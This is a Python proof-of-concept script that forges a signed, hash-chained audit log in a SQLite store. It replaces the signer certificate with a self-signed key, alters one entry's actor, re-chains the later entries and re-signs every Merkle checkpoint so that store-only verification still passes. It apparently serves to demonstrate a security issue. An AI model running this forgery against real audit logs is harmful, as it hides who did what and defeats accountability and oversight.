#!/usr/bin/env python3
"""Attacker with write access to the database but no HSM: rewrites the audit log and re-signs it with a key of their
own, as the trustworthy-state issue describes.

  forge_audit_log.py STORE.sqlite SIGNER_SERIAL KEY_NAME ENTRY_INDEX NEW_ACTOR

- replaces the audit-signer certificate row (issuer/serial kept) by a self-signed certificate for a new P-256 key;
- rewrites entry ENTRY_INDEX's actor, re-chains every later entry (each embeds its predecessor's leaf hash);
- recomputes the RFC 6962 tree and re-signs every checkpoint as a C2SP signed note (type 0x02 ECDSA P-256 SHA-256,
  key ID = SHA-256(SPKI DER)[:4]) with the new key.
Everything a verifier reading only the store would check then agrees with itself.
"""
import base64
import datetime
import hashlib
import json
import sqlite3
import sys

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID


def leaf(entry: bytes) -> bytes:
    return hashlib.sha256(b"\x00" + entry).digest()


def root(leaves):
    if not leaves:
        return hashlib.sha256(b"").digest()
    if len(leaves) == 1:
        return leaves[0]
    k = 1
    while k * 2 < len(leaves):
        k *= 2
    return hashlib.sha256(b"\x01" + root(leaves[:k]) + root(leaves[k:])).digest()


def canonical(entry: dict) -> bytes:
    return json.dumps(entry, sort_keys=True, separators=(",", ":"), ensure_ascii=False).replace("\\/", "/").encode()


def main():
    path, serial, key_name, index, actor = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5]
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "metertrust Audit Log")])
    now = datetime.datetime.now(datetime.timezone.utc)
    certificate = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(int(serial, 16)).not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=365)).sign(key, hashes.SHA256())
    )
    spki = key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    key_id = hashlib.sha256(spki).digest()[:4]

    db = sqlite3.connect(path)
    db.execute("UPDATE certificates SET der = ? WHERE serial = ? AND profile = 'audit-signer'",
               (certificate.public_bytes(serialization.Encoding.DER), serial))
    rows = db.execute("SELECT position, entry FROM audit_entries ORDER BY position").fetchall()
    leaves = []
    previous = ""
    for position, blob in rows:
        entry = json.loads(bytes(blob))
        if entry["index"] == index:
            entry["actor"] = actor
        entry["previous"] = previous
        encoded = canonical(entry)
        db.execute("UPDATE audit_entries SET entry = ? WHERE position = ?", (encoded, position))
        leaves.append(leaf(encoded))
        previous = leaf(encoded).hex()
    for (size,) in db.execute("SELECT size FROM audit_checkpoints").fetchall():
        body = f"{key_name}\n{size}\n{base64.b64encode(root(leaves[:size])).decode()}\n"
        signature = key.sign(body.encode(), ec.ECDSA(hashes.SHA256()))
        note = body + "\n\u2014 " + key_name + " " + base64.b64encode(key_id + signature).decode() + "\n"
        db.execute("UPDATE audit_checkpoints SET note = ? WHERE size = ?", (note, size))
    db.commit()
    print(f"rewrote {len(rows)} entries and re-signed every checkpoint")


if __name__ == "__main__":
    main()
